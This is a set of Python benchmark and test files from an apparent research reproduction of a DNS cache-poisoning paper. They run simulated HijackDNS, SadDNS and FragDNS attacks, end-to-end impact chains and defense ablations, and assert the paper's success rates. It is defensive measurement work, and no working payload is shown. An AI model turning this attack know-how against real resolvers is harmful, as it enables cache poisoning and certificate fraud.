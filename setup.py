"""Legacy install shim.

The metadata lives in pyproject.toml; this file only exists so that
``pip install -e .`` works on environments whose setuptools cannot build
PEP 660 editable wheels (offline, no ``wheel`` package).
"""

from setuptools import setup

setup()
