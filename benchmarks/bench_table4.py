"""Bench: regenerate Table 4 (vulnerable domains per dataset)."""

from _helpers import pct, publish

from repro.experiments import table4


def test_table4_vulnerable_domains(benchmark):
    result = benchmark.pedantic(
        lambda: table4.run(seed=0, scale=0.01), rounds=1, iterations=1)
    publish(benchmark, result)
    rows = {row[0] + "/" + row[1]: row for row in result.rows}
    alexa = rows["Alexa 1M/HTTP DANE DV"]
    eduroam = rows["Eduroam list/Radius"]
    rpki = rows["Well-known/RPKI"]
    # Shape: eduroam domains are exceptionally hijackable (~96%) while
    # RPKI repository domains are exceptionally resilient (~14%).
    assert pct(eduroam[2]) > pct(alexa[2]) > pct(rpki[2])
    # Global-IPID fragmentation is a strict subset of any-IPID.
    for row in result.rows:
        assert pct(row[5]) <= pct(row[4]) + 0.01
    # DNSSEC is rare except among RPKI operators (67%).
    assert pct(rpki[6]) > 30
    assert pct(alexa[6]) < 10
    # Sampled datasets land near the paper's numbers.
    for key, expected in result.paper_reference.items():
        summary = result.data["summaries"][key]
        if summary.size >= 200:
            assert abs(summary.pct("hijack") - expected[0]) < 12
            assert abs(summary.pct("saddns") - expected[1]) < 8
