"""Bench: §4.3 in-text measurements (shared caches, forwarders)."""

from _helpers import publish

from repro.experiments import section4


def test_section4_cross_application_caches(benchmark):
    result = benchmark.pedantic(
        lambda: section4.run(seed=0, scale=0.01), rounds=1, iterations=1)
    publish(benchmark, result)
    # ~69% of open resolvers cache two or more applications.
    assert abs(result.data["shared"] - 0.69) < 0.08
    # ~79% of client resolvers are reachable through open forwarders.
    assert abs(result.data["coverage"] - 0.79) < 0.08
