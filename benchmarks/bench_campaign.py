"""Bench: the multi-seed campaign sweep (scenario/campaign API).

Sweeps the three budget-capped methodology scenarios across 32 seeds —
the statistics behind Table 6's effectiveness ordering — and records
the serial-vs-process wall clocks in ``extra_info``.  The parallel
executor must reproduce the serial loop bit-for-bit; the speedup it
buys depends on the host's core count (a single-core CI container pays
a small process-pool tax instead).
"""

from _helpers import publish  # noqa: F401  (keeps the bench harness import style)

from repro.scenario import Campaign, sweep_scenarios

SEEDS = range(32)


def test_campaign_table6_ordering(benchmark):
    serial = Campaign(executor="serial").run(sweep_scenarios(), seeds=SEEDS)
    result = benchmark.pedantic(
        lambda: Campaign(workers=8).run(sweep_scenarios(), seeds=SEEDS),
        rounds=1, iterations=1,
    )
    import sys
    sys.stdout.write("\n" + result.describe() + "\n")
    benchmark.extra_info["serial_wall_clock"] = serial.wall_clock
    benchmark.extra_info["parallel_wall_clock"] = result.wall_clock
    benchmark.extra_info["parallel_executor"] = result.executor
    benchmark.extra_info["speedup"] = serial.wall_clock / result.wall_clock
    benchmark.extra_info["success_rates"] = {
        key: summary.success_rate
        for key, summary in result.by_method().items()
    }
    # The parallel sweep is the serial loop, redistributed: every run
    # must agree on every aggregate.
    flat = lambda res: [(r.label, r.seed, r.success, r.packets_sent,
                         r.queries_triggered, r.duration)
                        for r in res.runs]
    assert flat(result) == flat(serial)
    # Table 6's effectiveness ordering emerges from the success rates.
    methods = result.by_method()
    assert methods["HijackDNS"].success_rate == 1.0
    assert methods["HijackDNS"].success_rate \
        > methods["FragDNS"].success_rate \
        > methods["SadDNS"].success_rate
    # FragDNS (global IP-ID) per-query hitrate sits in the paper's ~20%
    # regime; HijackDNS needs exactly two packets per run.
    assert 0.10 <= methods["FragDNS"].hitrate <= 0.40
    assert methods["HijackDNS"].packets_percentile(0.99) == 2
