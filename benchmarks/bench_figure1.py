"""Bench: regenerate Figure 1 (SadDNS message sequence)."""

from _helpers import publish

from repro.experiments import figure1


def test_figure1_saddns_sequence(benchmark):
    result = benchmark.pedantic(figure1.run, rounds=1, iterations=1)
    publish(benchmark, result)
    # The attack run behind the figure must actually have poisoned.
    assert result.data["poisoned"]
    assert result.data["port"] is not None
    # Every step of the paper's figure appears, in order.
    steps = [row[0] for row in result.rows]
    assert steps == result.paper_reference["steps"]
    # The rendered chart names all four principals.
    for actor in ("attacker", "resolver", "nameserver", "service"):
        assert actor in result.rendered
