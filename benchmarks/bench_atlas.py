"""Bench: the atlas sharded scan pipeline (throughput + determinism).

Scans a slice of the paper's largest population (open resolvers,
1.58M full size) through the shard pipeline, writes the machine-readable
``BENCH_atlas.json`` record (entities/sec, shard count, wall time), and
asserts the shape results: measured rates recover the Table 3
calibration and the aggregate is invariant to the shard layout.
"""

import os
import sys

from _helpers import pct, write_atlas_bench

from repro.atlas import find_dataset, scan_dataset

ENTITIES = int(os.environ.get("BENCH_ATLAS_ENTITIES", "20000"))
SHARDS = int(os.environ.get("BENCH_ATLAS_SHARDS", "8"))


def test_atlas_sharded_scan(benchmark):
    spec = find_dataset("open")
    report = benchmark.pedantic(
        lambda: scan_dataset(spec, seed=0, entities=ENTITIES,
                             shards=SHARDS),
        rounds=1, iterations=1)
    path = write_atlas_bench([report], report.wall_clock)
    sys.stdout.write(
        f"\natlas scan: {report.entities:,} entities, "
        f"{report.shard_count} shards, {report.wall_clock:.1f}s "
        f"({report.entities_per_second:,.0f} entities/s, "
        f"{report.executor}, workers={report.workers}); wrote {path}\n")
    benchmark.extra_info["entities"] = report.entities
    benchmark.extra_info["shard_count"] = report.shard_count
    benchmark.extra_info["entities_per_second"] = round(
        report.entities_per_second, 1)
    benchmark.extra_info["bench_json"] = path

    # The scan must recover the Table 3 calibration at this scale ...
    summary = report.summary
    assert abs(summary.pct("hijack") - spec.expected_hijack) < 4
    assert abs(summary.pct("saddns") - spec.expected_saddns) < 3
    assert abs(summary.pct("frag") - spec.expected_frag) < 4
    # ... the strata must cover every entity exactly once ...
    assert sum(report.aggregate.strata.values()) == report.entities
    # ... and the merged aggregate must not depend on the shard layout.
    relaid = scan_dataset(spec, seed=0, entities=ENTITIES,
                          shards=max(1, SHARDS // 2), executor="serial")
    assert relaid.aggregate.to_json() == report.aggregate.to_json()
    assert pct(f"{summary.pct('hijack'):.2f}") == \
        pct(f"{relaid.summary.pct('hijack'):.2f}")
