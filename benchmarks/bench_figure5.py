"""Bench: regenerate Figure 5 (Venn diagrams of vulnerable systems)."""

from _helpers import publish

from repro.experiments import figure5


def test_figure5_venn_diagrams(benchmark):
    result = benchmark.pedantic(
        lambda: figure5.run(seed=0, scale=0.01), rounds=1, iterations=1)
    publish(benchmark, result)
    resolvers = result.data["resolver_venn"]
    domains = result.data["domain_venn"]
    # Shape: HijackDNS has by far the largest set in both diagrams.
    assert resolvers.set_total("HijackDNS") \
        > resolvers.set_total("FragDNS") \
        > resolvers.set_total("SadDNS")
    assert domains.set_total("HijackDNS") > domains.set_total("SadDNS") \
        > domains.set_total("FragDNS")
    # SadDNS & FragDNS overlap little compared to their overlaps with
    # HijackDNS (independence, as the paper observes).
    assert resolvers.bc < resolvers.ac
    assert domains.bc < domains.ab
    # Magnitudes: the scaled resolver total is in the paper's millions
    # regime (their union is ~1.66M back-end addresses).
    assert resolvers.total > 500_000
