"""Bench: §5 in-text measurements (same-prefix sim, record types)."""

from _helpers import publish

from repro.experiments import section5


def test_section5_measurements(benchmark):
    result = benchmark.pedantic(
        lambda: section5.run(seed=0, trials=120), rounds=1, iterations=1)
    publish(benchmark, result)
    same = result.data["same"]
    sub = result.data["sub"]
    rates = result.data["rates"]
    # Same-prefix hijacks succeed in roughly 80% of evaluations.
    assert 0.65 <= same.success_rate <= 0.95
    # Sub-prefix hijacks are the stronger variant.
    assert sub.success_rate >= same.success_rate
    # Record-type ordering: ANY >> bloated > MX >= A, with ANY around
    # the paper's 19.5% and A well under 1%.
    assert rates.any_rate > rates.bloated_rate > rates.a_rate
    assert 0.12 <= rates.any_rate <= 0.30
    assert rates.a_rate < 0.01
    assert rates.mx_rate < 0.02
    assert rates.bloated_rate > 0.10
    # Nameserver hosting is heavily concentrated.
    assert result.data["concentration"] > 0.5
