"""Bench: regenerate Table 1 (applicability matrix)."""

from _helpers import publish

from repro.experiments import table1


def test_table1_applicability_matrix(benchmark):
    result = benchmark.pedantic(table1.run, rounds=1, iterations=1)
    publish(benchmark, result)
    # Shape: every derived methodology cell matches the paper's matrix.
    assert result.data["cell_matches"] == result.data["cell_comparisons"]
    # HijackDNS applies to every application row.
    hijack_column = [row[7] for row in result.rows]
    assert all(cell == "v" for cell in hijack_column)
    # SadDNS and FragDNS are blocked somewhere (NTP/Bitcoin/DV/RPKI).
    assert "x" in [row[8] for row in result.rows]
    assert "x" in [row[9] for row in result.rows]
