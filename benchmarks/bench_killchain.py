"""Bench: the end-to-end kill chain (attack -> poisoned cache -> app).

Sweeps kill-chain scenarios — Table 1 applications with their workloads
riding behind budget-capped attacks — across seeds, and asserts the
§4.5 impact invariants: HijackDNS realizes every application's impact
cell deterministically, probabilistic methods realize it exactly when
the attack phase lands, and the process pool reproduces the serial
loop bit-for-bit (application outcomes included).
"""

from _helpers import publish  # noqa: F401  (keeps the bench harness import style)

from repro.scenario import Campaign, killchain_scenarios

SEEDS = range(8)
APPS = ("dv", "recovery", "ocsp", "rpki", "smtp", "http")


def _flat(result):
    return [(r.label, r.seed, r.success, r.packets_sent,
             r.queries_triggered, r.duration,
             r.app_result.realized, r.app_result.impact,
             r.app_result.outcomes)
            for r in result.runs]


def test_killchain_impact_pipeline(benchmark):
    scenarios = killchain_scenarios(apps=APPS,
                                    methods=("hijack", "frag"))
    serial = Campaign(executor="serial").run(scenarios, seeds=SEEDS)
    result = benchmark.pedantic(
        lambda: Campaign(workers=8).run(scenarios, seeds=SEEDS),
        rounds=1, iterations=1,
    )
    import sys
    sys.stdout.write("\n" + result.describe() + "\n")
    benchmark.extra_info["serial_wall_clock"] = serial.wall_clock
    benchmark.extra_info["parallel_wall_clock"] = result.wall_clock
    benchmark.extra_info["impact_rate"] = result.impact_rate
    benchmark.extra_info["by_app_impact"] = {
        key: summary.impact_rate
        for key, summary in result.by_app().items()
    }
    # Bit-identical across executors, application stages included: no
    # CallableTrigger fallback is left on the app path.
    assert result.notes == []
    assert _flat(result) == _flat(serial)
    # Every run's impact tracks its attack phase exactly.
    assert all(run.impact_realized == run.success for run in result.runs)
    # HijackDNS realizes every Table 1 impact deterministically...
    by_label = result.by_label()
    for app in APPS:
        assert by_label[f"killchain/{app}/HijackDNS"].impact_rate == 1.0
    # ...and the impact taxonomy lands in the right §4.5 buckets.
    by_app = result.by_app()
    assert by_app["dv"].fraud_certs > 0
    assert by_app["recovery"].takeovers > 0
    assert by_app["ocsp"].downgrades > 0
    assert by_app["rpki"].downgrades > 0
