"""Bench: defense stacks — the pairwise ablation and defended sweeps."""

from _helpers import publish

from repro.defenses import DefenseStack
from repro.experiments import ablation
from repro.scenario import Campaign, sweep_scenarios


def test_pairwise_defense_ablation(benchmark):
    """The showcase pairwise stacks reproduce their combined claims."""
    result = benchmark.pedantic(
        lambda: ablation.run(seed=0, pairs=len(ablation.SHOWCASE_PAIRS)),
        rounds=1, iterations=1,
    )
    publish(benchmark, result)
    assert result.data["agreement"] == result.data["total"] \
        == 24 + 3 * len(ablation.SHOWCASE_PAIRS)
    classes = result.data["pair_classes"]
    assert classes["block-fragments+pmtu-clamp"] == "redundant"
    assert classes["dnssec+rpki-rov"] == "redundant"
    assert classes["no-icmp-errors+randomize-records"] == "complementary"
    assert classes["block-fragments+randomized-icmp-limit"] \
        == "complementary"


def test_defended_campaign_residuals(benchmark):
    """A (method x stack) sweep reports the expected residuals."""
    scenarios = sweep_scenarios()
    stacks = [DefenseStack.of("rpki-rov"),
              DefenseStack.of("dnssec"),
              DefenseStack.of("0x20-encoding", "block-fragments")]
    result = benchmark.pedantic(
        lambda: Campaign(executor="serial").run_defended(
            scenarios, stacks=stacks, seeds=range(4)),
        rounds=1, iterations=1,
    )
    print()
    print(result.describe())
    matrix = result.defense_matrix()
    # The undefended baseline keeps the paper's effectiveness ordering.
    assert matrix[("none", "HijackDNS")].success_rate == 1.0
    # ROV removes only the hijack; DNSSEC zeroes every method.
    assert matrix[("rpki-rov", "HijackDNS")].success_rate == 0.0
    assert matrix[("rpki-rov", "FragDNS")].success_rate \
        == matrix[("none", "FragDNS")].success_rate
    for method in ("HijackDNS", "SadDNS", "FragDNS"):
        assert matrix[("dnssec", method)].success_rate == 0.0
    # The 0x20+block-fragments pair is complementary: SadDNS and
    # FragDNS both die while the hijack sails on.
    pair = "0x20-encoding+block-fragments"
    assert matrix[(pair, "HijackDNS")].success_rate == 1.0
    assert matrix[(pair, "FragDNS")].success_rate == 0.0
