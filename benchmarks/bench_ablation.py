"""Bench: the Section 6 ablation, single-defense grid."""

from _helpers import publish

from repro.experiments import ablation


def test_ablation_countermeasures(benchmark):
    result = benchmark.pedantic(
        lambda: ablation.run(seed=0, pairs=0),
        rounds=1, iterations=1,
    )
    publish(benchmark, result)
    # Every (attack, defense) outcome matches Section 6's claims.
    assert result.data["agreement"] == result.data["total"] == 24
    cells = {(cell.attack, cell.defense): cell
             for cell in result.data["cells"]}
    # Named spot checks from the paper's discussion:
    # 0x20 stops SadDNS but cannot stop FragDNS (case is in fragment 1).
    assert not cells[("SadDNS", "0x20-encoding")].attack_succeeded
    assert cells[("FragDNS", "0x20-encoding")].attack_succeeded
    # DNSSEC stops all three; ROV stops only the hijack — and does so
    # through real RPKI origin validation, not a scenario switch.
    for attack in ("HijackDNS", "SadDNS", "FragDNS"):
        assert not cells[(attack, "dnssec")].attack_succeeded
    assert not cells[("HijackDNS", "rpki-rov")].attack_succeeded
    assert cells[("SadDNS", "rpki-rov")].attack_succeeded
