"""Bench: regenerate Figure 3 (announced prefix length distribution)."""

from _helpers import publish

from repro.experiments import figure3


def test_figure3_prefix_lengths(benchmark):
    result = benchmark.pedantic(
        lambda: figure3.run(seed=0, scale=0.01), rounds=1, iterations=1)
    publish(benchmark, result)
    series = result.data["series"]
    slash24 = result.data["slash24"]
    # Shape: the Alexa nameserver population has the largest /24 mass
    # (least sub-prefix hijackable), matching the paper's 53% vs 70-74%.
    assert slash24["Nameservers: Alexa"] > slash24["Resolvers: Open resolver"]
    assert slash24["Nameservers: Alexa"] > slash24["Resolvers: Adnet"]
    # The implied hijackable fractions match the calibration targets.
    for label, expected in result.paper_reference["slash24_mass"].items():
        assert abs(slash24[label] - expected) < 0.06
    # All mass lies within /11../24.
    for label, mix in series.items():
        assert abs(sum(mix.values()) - 1.0) < 1e-6
        assert all(11 <= length <= 24 for length in mix)
