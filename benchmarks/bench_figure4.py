"""Bench: regenerate Figure 4 (EDNS sizes vs minimum fragment sizes)."""

from _helpers import publish

from repro.experiments import figure4


def test_figure4_edns_vs_fragment_sizes(benchmark):
    result = benchmark.pedantic(
        lambda: figure4.run(seed=0, scale=0.01), rounds=1, iterations=1)
    publish(benchmark, result)
    edns_cdf = dict(result.data["edns_cdf"])
    frag_cdf = dict(result.data["frag_cdf"])
    # Shape: the resolver population splits into two groups — ~40% at
    # 512 bytes and ~50% above 4000 bytes (the paper's partition).
    assert 0.28 <= edns_cdf[548] <= 0.52       # the 512-byte group
    assert edns_cdf[2048] - edns_cdf[548] <= 0.2   # the thin middle
    assert 1.0 - edns_cdf[3072] >= 0.35        # the >=4000 group
    # Most fragmenting nameservers go down to 548 bytes; a small
    # fraction reaches the 292-byte floor.
    assert frag_cdf[548] >= 0.75
    assert 0.02 <= frag_cdf[292] <= 0.15
