"""Bench: the run store (resume-aware defended sweeps).

Runs the methodology scenarios through ``Campaign.run_defended`` twice
against one SQLite run store: a cold pass that computes and records
every (scenario x stack x seed) cell, then a resumed pass that loads
all of them back.  The benchmark times the resumed pass — how fast a
killed sweep comes back — and asserts the store's invariants: the
resumed grid is bit-identical to the computed one (per-run stats and
both aggregate views), a partial store recomputes only the missing
cells, and resuming through a parallel executor changes nothing.
"""

import os

from _helpers import publish  # noqa: F401  (keeps the bench harness import style)

from repro.scenario import Campaign, sweep_scenarios
from repro.store import RunStore, campaign_from_store

SEEDS = range(8)
STACKS = ("dnssec", "rpki-rov")


def _flat(result):
    return [(r.label, r.defense, r.seed, r.success, r.packets_sent,
             r.queries_triggered, r.duration) for r in result.runs]


def _matrix(result):
    return {key: (summary.runs, summary.success_rate)
            for key, summary in result.defense_matrix().items()}


def test_store_resume(benchmark, tmp_path):
    db = str(tmp_path / "bench_store.db")
    scenarios = sweep_scenarios()
    cold = Campaign(executor="serial").run_defended(
        scenarios, stacks=STACKS, seeds=SEEDS, store=db)
    warm = benchmark.pedantic(
        lambda: Campaign(executor="serial").run_defended(
            scenarios, stacks=STACKS, seeds=SEEDS, store=db),
        rounds=1, iterations=1,
    )
    import sys
    sys.stdout.write("\n" + warm.describe() + "\n")
    benchmark.extra_info["cells"] = len(warm.runs)
    benchmark.extra_info["cold_wall_clock"] = cold.wall_clock
    benchmark.extra_info["resumed_wall_clock"] = warm.wall_clock
    benchmark.extra_info["speedup"] = (
        round(cold.wall_clock / warm.wall_clock, 1)
        if warm.wall_clock > 0 else 0.0)
    # Resume is invisible: per-run stats and both aggregate views are
    # bit-identical to the uninterrupted computation.
    assert _flat(warm) == _flat(cold)
    assert _matrix(warm) == _matrix(cold)
    assert any("cells loaded" in note for note in warm.notes)
    # Every cell is in the store, and the store alone reconstructs the
    # same grid without touching a simulator.
    store = RunStore(db)
    assert store.count() == len(cold.runs)
    rebuilt = campaign_from_store(store)
    assert sorted(_flat(rebuilt)) == sorted(_flat(cold))


def test_partial_store_recomputes_only_missing(tmp_path):
    """Half the grid stored -> resume executes only the other half."""
    from repro.store import RunRecord

    class CountingStore(RunStore):
        def __init__(self, path):
            super().__init__(path)
            self.inserted = 0

        def record(self, record: RunRecord) -> bool:
            fresh = super().record(record)
            self.inserted += int(fresh)
            return fresh

    db = str(tmp_path / "partial.db")
    scenarios = sweep_scenarios()
    seeds = range(4)
    full = Campaign(executor="serial").run_defended(
        scenarios, stacks=STACKS, seeds=seeds, store=db)
    total = len(full.runs)

    # Drop half the stored cells, then resume.
    store = CountingStore(db)
    victims = [record.key for index, record
               in enumerate(store.iter_records()) if index % 2 == 0]
    with store._connect() as connection:
        for spec_hash, seed, defense in victims:
            connection.execute(
                "DELETE FROM runs WHERE spec_hash = ? AND seed = ? "
                "AND defense = ?", (spec_hash, seed, defense))
    assert store.count() == total - len(victims)

    resumed = Campaign(executor="serial").run_defended(
        scenarios, stacks=STACKS, seeds=seeds, store=store)
    assert store.inserted == len(victims)
    assert _flat(resumed) == _flat(full)
    assert store.count() == total


def test_parallel_resume_matches_serial(tmp_path):
    """A thread-pool resume over a serial cold store changes nothing."""
    db = str(tmp_path / "parallel.db")
    scenarios = sweep_scenarios()
    cold = Campaign(executor="serial").run_defended(
        scenarios, stacks=STACKS, seeds=range(4), store=db)
    warm = Campaign(executor="thread", workers=4).run_defended(
        scenarios, stacks=STACKS, seeds=range(4), store=db)
    assert _flat(warm) == _flat(cold)
    assert os.path.exists(db)
