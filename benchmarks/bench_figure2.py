"""Bench: regenerate Figure 2 (FragDNS message sequence)."""

from _helpers import publish

from repro.experiments import figure2


def test_figure2_fragdns_sequence(benchmark):
    result = benchmark.pedantic(figure2.run, rounds=1, iterations=1)
    publish(benchmark, result)
    assert result.data["poisoned"]
    # The PTB forced the minimum MTU and the fragment boundary is the
    # 48-byte payload cut of a 68-byte MTU.
    assert result.data["effective_mtu"] == 68
    assert result.data["fragment_boundary"] == 48
    # The defragmentation cache was filled to its 64-slot capacity.
    assert result.data["planted"] == 64
    steps = [row[0] for row in result.rows]
    assert steps == result.paper_reference["steps"]
