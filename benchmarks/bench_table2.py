"""Bench: regenerate Table 2 (middlebox query triggering)."""

from _helpers import publish

from repro.experiments import table2


def test_table2_middlebox_triggering(benchmark):
    result = benchmark.pedantic(table2.run, rounds=1, iterations=1)
    publish(benchmark, result)
    # Shape: every product's measured trigger behaviour matches.
    assert result.data["trigger_verdict_matches"] \
        == result.data["profiles_measured"] == 12
    # Cloudflare dominates the Alexa usage column, as in the paper.
    usage = {
        (row[0], row[1]): row[4] for row in result.rows if row[4] != "-"
    }
    cdn_counts = {key: int(value) for key, value in usage.items()}
    top = max(cdn_counts, key=cdn_counts.get)
    assert top[1] == "Cloudflare"
