"""Bench: the workload engine (benign load riding behind an attack).

Sweeps a loaded HijackDNS campaign — the synthetic client population
querying the resolver at 40 qps while the attack runs — and asserts
the subsystem's invariants: the process pool reproduces the serial
loop bit-for-bit including every LoadReport checksum, a qps=0 workload
is a strict no-op (identical to the unloaded scenario), and benign
clients of successful runs actually consume poisoned answers.
"""

from dataclasses import replace

from _helpers import publish  # noqa: F401  (keeps the bench harness import style)

from repro.scenario import AttackScenario, Campaign
from repro.workload import WorkloadSpec

SEEDS = range(8)

LOAD = WorkloadSpec(clients=8, qps=40.0, duration=10.0, warmup=2.0,
                    domains=20, victim_ttl=6, label="bench")


def _flat(result):
    return [(r.label, r.seed, r.success, r.packets_sent,
             r.queries_triggered, r.duration,
             r.load_report.checksum() if r.load_report else None)
            for r in result.runs]


def test_loaded_campaign(benchmark):
    scenario = AttackScenario(method="HijackDNS", label="HijackDNS@40qps",
                              workload=LOAD)
    serial = Campaign(executor="serial").run(scenario, seeds=SEEDS)
    result = benchmark.pedantic(
        lambda: Campaign(workers=8).run(scenario, seeds=SEEDS),
        rounds=1, iterations=1,
    )
    import sys
    sys.stdout.write("\n" + result.describe() + "\n")
    merged = result.load_report()
    benchmark.extra_info["serial_wall_clock"] = serial.wall_clock
    benchmark.extra_info["parallel_wall_clock"] = result.wall_clock
    benchmark.extra_info["offered_queries"] = merged.offered
    benchmark.extra_info["answer_rate"] = merged.answer_rate
    benchmark.extra_info["window_fraction"] = merged.window_fraction
    # Bit-identical across executors, benign-load statistics included.
    assert _flat(result) == _flat(serial)
    assert result.loaded
    # The population was actually measured, and served mostly on time.
    assert merged.offered > 0
    assert merged.answer_rate > 0.9
    # HijackDNS lands every seed; under churned TTLs the poisoned entry
    # is live while benign victim queries arrive, so clients consume it.
    assert result.success_rate == 1.0
    assert merged.poisoned_answers > 0
    # Benign load keeps the victim name mostly cached: the window of
    # opportunity is a strict minority of the run at 40 qps.
    assert merged.window_fraction < 0.5


def test_zero_qps_is_idle_baseline():
    """qps=0 workload == no workload, bit-for-bit (no bench timer)."""
    idle = AttackScenario(method="FragDNS", label="frag")
    loaded = replace(idle, workload=LOAD.with_qps(0.0))
    for seed in range(3):
        a = idle.run(seed=seed)
        b = loaded.run(seed=seed)
        assert (a.success, a.packets_sent, a.queries_triggered,
                a.duration) == (b.success, b.packets_sent,
                                b.queries_triggered, b.duration)
        assert b.load_report is None
