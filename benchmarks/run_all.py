"""Kernel perf harness: measure, record, and gate the simulator's speed.

Runs the hot-loop benchmarks the whole reproduction drains through —
scheduler event dispatch, network packet delivery, DNS wire codec,
the serial campaign sweep, the atlas shard scan and the parallel
execution plane (serial vs N-worker, checksummed) — and writes the
machine-readable record ``BENCH_core.json`` (per-bench wall time,
peak RSS and rates: events/sec, packets/sec, messages/sec, runs/sec,
entities/sec), plus an observability-overhead record: the campaign and
atlas workloads run obs-off and obs-on, asserted bit-identical, with
the enabled plane's cost recorded as ``overhead_pct``.

The committed ``BENCH_core.json`` is the repo's perf baseline; CI reruns
the harness with ``--quick --check BENCH_core.json`` and fails on a
>25% rate regression.  Alongside the rates, the campaign and atlas
benches record SHA-256 checksums of their statistical outputs, so a
perf regression can never hide a semantics regression: same seeds must
keep producing bit-identical stats.

Usage::

    PYTHONPATH=src python benchmarks/run_all.py            # full sizes
    PYTHONPATH=src python benchmarks/run_all.py --quick    # CI sizes
    PYTHONPATH=src python benchmarks/run_all.py --quick \
        --check BENCH_core.json                            # gate
"""

from __future__ import annotations

import argparse
import hashlib
import json
import platform
import sys
import time

try:
    import resource
except ImportError:  # non-POSIX: record no RSS rather than failing
    resource = None


# -- sizes -------------------------------------------------------------------

FULL_SIZES = {
    "scheduler_events": 300_000,
    "transmit_packets": 60_000,
    "dns_wire_ops": 30_000,
    "campaign_seeds": 32,
    "killchain_seeds": 8,
    "workload_seeds": 8,
    "atlas_entities": 20_000,
    "parallel_entities": 40_000,
    "defense_pairs": 28,     # the full pairwise Section 6 grid
    "store_seeds": 8,
    "faults_seeds": 8,
}

QUICK_SIZES = {
    "scheduler_events": 60_000,
    "transmit_packets": 15_000,
    "dns_wire_ops": 20_000,
    "campaign_seeds": 8,
    "killchain_seeds": 3,
    "workload_seeds": 3,
    "atlas_entities": 5_000,
    "parallel_entities": 10_000,
    "defense_pairs": 4,      # singles + the showcase pairs
    "store_seeds": 3,
    "faults_seeds": 3,
}

REGRESSION_THRESHOLD = 0.25


def _result(name: str, wall: float, n: int, unit: str,
            checksum: str | None = None, **extra) -> dict:
    record = {
        "name": name,
        "wall_s": round(wall, 4),
        "n": n,
        "rate": round(n / wall, 1) if wall > 0 else 0.0,
        "unit": unit,
    }
    if checksum is not None:
        record["checksum"] = checksum
    if resource is not None:
        # ru_maxrss is the process-lifetime high-water mark (KB on
        # Linux), read as each bench finishes — the per-bench value is
        # "peak RSS so far", monotone across the run, so the first
        # bench to blow the memory budget is visible by name.
        record["peak_rss_kb"] = int(
            resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
    record.update(extra)
    return record


# -- kernel micro-benches ----------------------------------------------------

def bench_scheduler(events: int) -> dict:
    """Schedule and drain ``events`` callbacks (10% cancelled)."""
    from repro.core.clock import Scheduler

    scheduler = Scheduler()
    fired = [0]

    def callback() -> None:
        fired[0] += 1

    started = time.perf_counter()
    handles = []
    for i in range(events):
        if i % 10 == 3:
            handles.append(scheduler.call_later(float(i % 97) / 10,
                                                callback))
        else:
            scheduler.schedule(float(i % 97) / 10, callback)
    for handle in handles:
        handle.cancel()
    executed = scheduler.run_until_idle(max_events=events + 1)
    wall = time.perf_counter() - started
    assert executed == events - len(handles), (executed, events)
    assert fired[0] == executed
    return _result("scheduler", wall, events, "events/s")


def bench_transmit(packets: int) -> dict:
    """Push ``packets`` UDP datagrams through the untraced fabric."""
    from repro.core.eventlog import NullLog
    from repro.netsim.host import Host
    from repro.netsim.network import Network

    network = Network(log=NullLog())
    sender = network.attach(Host("sender", "10.0.0.1"))
    receiver = network.attach(Host("receiver", "10.0.0.2"))
    seen = [0]

    def handler(datagram, src, dst) -> None:
        seen[0] += 1

    receiver.open_udp(4242, handler)
    payload = b"x" * 64
    started = time.perf_counter()
    batch = 2_000
    sent = 0
    while sent < packets:
        for _ in range(min(batch, packets - sent)):
            sender.send_udp("10.0.0.1", 5353, "10.0.0.2", 4242, payload)
            sent += 1
        network.run()
    wall = time.perf_counter() - started
    assert seen[0] == packets, (seen[0], packets)
    return _result("transmit", wall, packets, "packets/s")


def bench_dns_wire(ops: int) -> dict:
    """Encode+decode a realistic response across a TXID storm."""
    from repro.dns.message import DnsMessage, Question
    from repro.dns.records import TYPE_A, rr_a, rr_ns
    from repro.dns.wire import decode_message, encode_message

    template = DnsMessage(
        txid=0, is_response=True, authoritative=True,
        questions=[Question(name="secure-login.vict.im", qtype=TYPE_A)],
        answers=[rr_a("secure-login.vict.im", "123.0.0.80", ttl=300)],
        authority=[rr_ns("vict.im", "ns1.vict.im", ttl=3600)],
        additional=[rr_a("ns1.vict.im", "123.0.0.53", ttl=3600)],
        edns_udp_size=4096,
    )
    digest = hashlib.sha256()
    started = time.perf_counter()
    for i in range(ops):
        template.txid = i & 0xFFFF
        data = encode_message(template)
        message = decode_message(data)
        digest.update(data)
        assert message.txid == template.txid
    wall = time.perf_counter() - started
    return _result("dns_wire", wall, ops, "messages/s",
                   checksum=digest.hexdigest())


# -- macro benches (the paper's workloads) ------------------------------------

def campaign_checksum(result) -> str:
    flat = [(run.label, run.seed, run.success, run.packets_sent,
             run.queries_triggered, run.duration) for run in result.runs]
    return hashlib.sha256(repr(flat).encode()).hexdigest()


def bench_campaign(seeds: int) -> dict:
    """The Table 6 sweep: three methodology scenarios x ``seeds`` seeds,
    on the serial reference executor (the campaign hot loop)."""
    from repro.scenario import Campaign, sweep_scenarios

    started = time.perf_counter()
    result = Campaign(executor="serial").run(sweep_scenarios(),
                                             seeds=range(seeds))
    wall = time.perf_counter() - started
    return _result("campaign_serial", wall, len(result.runs), "runs/s",
                   checksum=campaign_checksum(result), seeds=seeds)


def killchain_checksum(result) -> str:
    flat = [(run.label, run.seed, run.success, run.packets_sent,
             run.queries_triggered, run.duration,
             run.app_result.realized, run.app_result.impact,
             tuple(outcome.describe()
                   for outcome in run.app_result.outcomes))
            for run in result.runs]
    return hashlib.sha256(repr(flat).encode()).hexdigest()


def bench_killchain(seeds: int) -> dict:
    """The end-to-end kill chain: attack + application stage per run,
    on the serial reference executor.  The checksum covers application
    outcomes, so impact semantics are gated alongside the rates."""
    from repro.scenario import Campaign, killchain_scenarios

    scenarios = killchain_scenarios(
        apps=("dv", "recovery", "ocsp", "rpki", "smtp", "http"),
        methods=("hijack", "frag"),
    )
    started = time.perf_counter()
    result = Campaign(executor="serial").run(scenarios, seeds=range(seeds))
    wall = time.perf_counter() - started
    assert result.impact_rate > 0.0
    return _result("killchain_serial", wall, len(result.runs), "runs/s",
                   checksum=killchain_checksum(result), seeds=seeds,
                   impact_rate=round(result.impact_rate, 4))


def workload_checksum(result) -> str:
    flat = [(run.label, run.seed, run.success, run.packets_sent,
             run.queries_triggered, run.duration,
             run.load_report.checksum() if run.load_report else None)
            for run in result.runs]
    return hashlib.sha256(repr(flat).encode()).hexdigest()


def bench_workload(seeds: int) -> dict:
    """A loaded campaign: HijackDNS with the synthetic client population
    at 40 qps riding behind it — the workload engine's hot loop
    (per-arrival sockets, PASTA window sampling, latency accounting).
    The checksum covers every run's LoadReport, so the benign-traffic
